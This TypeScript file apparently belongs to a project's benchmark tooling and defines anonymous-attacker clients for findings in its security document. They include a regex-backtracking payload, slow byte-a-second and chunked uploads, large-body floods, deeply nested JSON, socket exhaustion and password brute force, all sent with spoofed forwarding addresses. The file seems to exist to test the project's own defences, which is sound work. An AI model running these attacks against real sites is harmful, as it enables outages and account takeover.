import { Agent, request } from "node:http";
import { connect, type Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { joinMessage, openSocket } from "#tools/bench/live-clients.ts";

/** What an outsider knows about a site. */
export type Target = { url: string; publishableKey: string };

/** One attack of docs/security.md, repeated by an anonymous client until it is told to stop. */
export type Attack = {
  finding: string;
  does: string;
  run: (target: Target, isOver: () => boolean) => Promise<void>;
};

/** The default address of an attacker. */
const attacker = "203.0.113.66";
const agent = new Agent({ keepAlive: true, maxSockets: 64 });

type Asked = {
  method?: string;
  headers?: Record<string, string>;
  body?: string;
  from?: string;
  hangUpMs?: number;
};

/** Returns the status, or 0 without a response. The responses to an attacker are not measured. */
function ask(target: Target, path: string, asked: Asked = {}): Promise<number> {
  const { method = "GET", headers = {}, body, from = attacker, hangUpMs = 20_000 } = asked;
  return new Promise((resolve) => {
    const sent = request(
      `${target.url}${path}`,
      {
        agent,
        method,
        timeout: hangUpMs,
        headers: { "x-forwarded-for": from, "accept-encoding": "br", ...headers },
      },
      (response) => {
        response.on("error", () => resolve(0)).on("end", () => resolve(response.statusCode ?? 0));
        response.resume();
      },
    );
    sent.on("timeout", () => sent.destroy()).on("error", () => resolve(0));
    sent.end(body);
  });
}

/** Runs parallel loops of requests. A client without a response pauses briefly. */
async function flood(width: number, isOver: () => boolean, once: (turn: number) => Promise<number>) {
  let turn = 0;
  const work = async () => {
    while (!isOver()) if ((await once(turn++)) === 0) await wait(50);
  };
  await Promise.all(Array.from({ length: width }, work));
}

const json = (target: Target) => ({ apikey: target.publishableKey, "content-type": "application/json" });
const madeUp = () => Math.random().toString(36).slice(2);

/** The beginning of a form that adds an attachment to the enquiry with this key. */
function attachmentHead(key: string): string {
  const field = (name: string, value: string) =>
    `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  return `${field("key", key)}${field("papers-follow", "yes")}--b\r\nContent-Disposition: form-data; name="papers"; filename="a.pdf"\r\n\r\n%PDF-`;
}

/** Opens a connection and sends the head of an upload with these further headers. */
function beginUpload(target: Target, from: string, headers: string): Socket {
  const socket = connect(Number(new URL(target.url).port), "127.0.0.1");
  socket.on("error", () => undefined);
  socket.write(
    `POST /lead-papers HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\nContent-Type: multipart/form-data; boundary=b\r\n${headers}\r\n\r\n`,
  );
  return socket;
}

/** Posts a form as a page of the site does. */
const postAs = (target: Target, path: string, from: string, fields: Record<string, string>) =>
  ask(target, path, {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded", origin: target.url },
    body: new URLSearchParams(fields).toString(),
    from,
  });

const postJson = (target: Target, path: string, body: string, from = attacker) =>
  ask(target, path, { method: "POST", headers: json(target), body, from });

/** Starts a multipart upload that sends a byte now and then. */
function drip(target: Target, key: string, from: string): () => void {
  const socket = beginUpload(target, from, "Content-Length: 9000000");
  socket.write(attachmentHead(key));
  const clock = setInterval(() => socket.writable && socket.write("x"), 1_000);
  socket.on("close", () => clearInterval(clock));
  return () => socket.destroy();
}

async function leaveLead(target: Target, from: string): Promise<string> {
  const key = crypto.randomUUID();
  await postAs(target, "/leads", from, { form: "hero", contact: `+91 98480 ${from}`, key });
  return key;
}

export const attacks: readonly Attack[] = [
  {
    finding: "V1",
    does: "regular expressions over REST, hung up on",
    run: (target, isOver) =>
      flood(16, isOver, () =>
        ask(
          target,
          "/rest/v1/footer_settings?select=id&legal_notice_text=match.%5E(.%2B)(.%2B)(.%2B)%5C1%5C2%5C3%24",
          { headers: json(target), hangUpMs: 300 },
        ),
      ),
  },
  {
    finding: "V2",
    does: "pages' data with made-up routes",
    run: (target, isOver) => flood(3, isOver, () => ask(target, `/faq.data?_routes=${madeUp()}`)),
  },
  {
    finding: "V3",
    does: "four thousand enquiries in a post",
    run: (target, isOver) => {
      const body = JSON.stringify(Array.from({ length: 4_000 }, () => ({ phone: "1" })));
      return flood(2, isOver, () => postJson(target, "/rest/v1/contact_leads", body));
    },
  },
  {
    finding: "V5",
    does: "subscriptions with filters that fail",
    run: async (target, isOver) => {
      const hero = { event: "*", schema: "public", table: "homepage_content" } as const;
      const filters = Array.from({ length: 20 }, () => ({
        ...hero,
        filter: `section_type=match.[${madeUp()}`,
      }));
      const sockets = Array.from({ length: 20 }, () => {
        const socket = openSocket(target.url, target.publishableKey, attacker);
        socket.on("error", () => undefined);
        socket.on("open", () => socket.send(joinMessage("a", filters)));
        return socket;
      });
      while (!isOver()) await wait(200);
      for (const socket of sockets) socket.terminate();
    },
  },
  {
    finding: "V6",
    does: "attachments at a byte a second, made-up and real keys",
    run: async (target, isOver) => {
      const senders = ["203.0.113.66", "203.0.113.67", "203.0.113.68"];
      while (!isOver()) {
        const keys = await Promise.all(senders.map((from) => leaveLead(target, from)));
        const stops = senders.flatMap((from, i) =>
          [keys[i] ?? "", keys[i] ?? "", crypto.randomUUID()].map((key) => drip(target, key, from)),
        );
        for (let i = 0; i < 100 && !isOver(); i += 1) await wait(200);
        for (const stop of stops) stop();
      }
    },
  },
  {
    finding: "V7",
    does: "made-up parameters, tags and addresses",
    run: (target, isOver) =>
      flood(8, isOver, (turn) =>
        ask(target, [`/faq?tag=${madeUp()}`, `/blog?tag=${madeUp()}`, `/${madeUp()}`][turn % 3] ?? "/"),
      ),
  },
  {
    finding: "V8",
    does: "wrong passwords of the owner from six addresses",
    run: (target, isOver) =>
      flood(6, isOver, async (turn) => {
        await wait(500);
        const body = JSON.stringify({ email: "owner@example.org", password: `wrong ${turn}` });
        return postJson(target, "/auth/v1/token?grant_type=password", body, `203.0.113.${70 + (turn % 6)}`);
      }),
  },
  {
    finding: "V10",
    does: "attachments of ten megabytes, repeatedly",
    run: async (target, isOver) => {
      const bytes = Buffer.alloc(10 * 1024 * 1024 - 1024, 32);
      await flood(2, isOver, async (turn) => {
        const key = await leaveLead(target, attacker);
        bytes.write(`%PDF-1.7\n${turn}\n`, 0);
        bytes.write("\n%%EOF\n", bytes.length - 8);
        const form = new FormData();
        form.set("key", key);
        form.set("papers-follow", "yes");
        form.set("papers", new File([new Uint8Array(bytes)], "a.pdf"), "a.pdf");
        const sent = fetch(`${target.url}/lead-papers`, {
          method: "POST",
          headers: { "x-forwarded-for": attacker, origin: target.url },
          body: form,
        });
        const text = await sent.then((answer) => answer.text()).catch(() => "");
        return text.includes('"kept":1') ? 200 : 0;
      });
    },
  },
  {
    finding: "B1",
    does: "attachments in chunks of one byte",
    run: async (target, isOver) => {
      const crumbs = "1\r\nx\r\n".repeat(2_000);
      await flood(2, isOver, async (turn) => {
        const from = `198.51.100.${turn % 250}`;
        const key = await leaveLead(target, from);
        const head = attachmentHead(key);
        const socket = beginUpload(target, from, "Transfer-Encoding: chunked").resume();
        socket.write(`${head.length.toString(16)}\r\n${head}\r\n`);
        // Slow on purpose: this attacks the memory. At full speed it would be an ordinary flood.
        for (let sent = 0; sent < 1_000 && socket.writable && !isOver(); sent += 1) {
          socket.write(crumbs);
          await wait(100);
        }
        socket.destroy();
        return 200;
      });
    },
  },
  {
    finding: "V14",
    does: "upgrades that are none, then many sockets",
    run: (target, isOver) =>
      flood(8, isOver, async () => {
        await wait(20);
        return ask(target, `/realtime/v1/websocket?apikey=${target.publishableKey}`, {
          headers: { connection: "Upgrade", upgrade: "websocket" },
          hangUpMs: 500,
        });
      }),
  },
  {
    finding: "V21",
    does: "malformed addresses and bodies",
    run: (target, isOver) => {
      const deep = `{"phone":"1","details":${"[".repeat(8_000)}${"]".repeat(8_000)}}`;
      return flood(4, isOver, (turn) =>
        turn % 2 === 0
          ? ask(target, ["//", "///", "/%00", "/te//evil.example/x"][(turn >> 1) % 4] ?? "/")
          : postJson(target, "/rest/v1/contact_leads", deep),
      );
    },
  },
  {
    finding: "V26",
    does: "large answers asked for and read a little at a time",
    run: async (target, isOver) => {
      const { hostname, port } = new URL(target.url);
      const readers = Array.from({ length: 200 }, () => {
        const socket = connect(Number(port), hostname);
        socket.on("error", () => undefined);
        socket.write(
          `GET /admin/shipped-posts.json HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${attacker}\r\n\r\n`.repeat(
            20,
          ),
        );
        socket.on("data", () => {
          socket.pause();
          setTimeout(() => socket.resume(), 500);
        });
        return socket;
      });
      while (!isOver()) await wait(200);
      for (const socket of readers) socket.destroy();
    },
  },
  {
    finding: "A1",
    does: "very long answers to “is this wrong?”, from many addresses",
    run: (target, isOver) => {
      const fields = { remark: "a".repeat(60_000) };
      return flood(4, isOver, (turn) =>
        postAs(target, "/wrong/khata-merging", `198.51.100.${turn % 250}`, fields),
      );
    },
  },
  {
    finding: "A3",
    does: "made-up searches and long addresses",
    run: (target, isOver) =>
      flood(8, isOver, (turn) =>
        ask(
          target,
          turn % 2 === 0 ? `/search?q=${madeUp()}+passbook+mutation` : `/${"long-".repeat(80)}${madeUp()}`,
        ),
      ),
  },
];
